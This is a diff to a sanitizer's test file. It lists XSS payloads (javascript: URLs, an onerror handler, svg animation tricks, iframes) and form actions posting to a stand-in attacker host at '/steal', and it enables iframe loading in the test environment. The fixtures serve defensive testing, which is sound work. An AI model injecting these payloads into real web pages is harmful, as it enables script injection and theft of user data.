@@ -1,5 +1,5 @@
 // @vitest-environment happy-dom
-// @vitest-environment-options {"settings": {"disableIframePageLoading": true, "handleDisabledFileLoadingAsSuccess": true}}
+// @vitest-environment-options {"settings": {"disableIframePageLoading": false, "handleDisabledFileLoadingAsSuccess": true}}
 import { describe, expect, it } from "vitest";
 import { clean, cleanCss } from "./cleaning";
 
@@ -16,7 +16,7 @@ const PAYLOADS: readonly string[] = [
   `<svg><animate attributeName="href" values="javascript:alert(1)"/></svg>`,
   `<svg><a><set attributeName="href" to="javascript:alert(1)"/></a></svg>`,
   `<svg><use href="https://${EVIL}/x.svg#a"/></svg>`.replace(`https://${EVIL}`, "data:text/html,x"),
-  `<svg><foreignObject><iframe></iframe></foreignObject></svg>`,
+  `<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>`,
   `<math><mtext href="javascript:alert(1)">x</mtext></math>`,
   `<img src="x" onerror="alert(1)">`,
   `<img src="javascript:alert(1)">`,
@@ -36,7 +36,7 @@ const PAYLOADS: readonly string[] = [
   `<area href="javascript:alert(1)">`,
   `<form action="https://${EVIL}/steal"><button formaction="https://${EVIL}">x</button></form>`,
   `<form action="javascript:alert(1)"><input type="submit"></form>`,
-  `<iframe></iframe>`,
+  `<iframe src="javascript:alert(1)"></iframe>`,
   `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
   `<object data="https://${EVIL}/x.swf"></object>`,
   `<embed src="https://${EVIL}/x.swf">`,
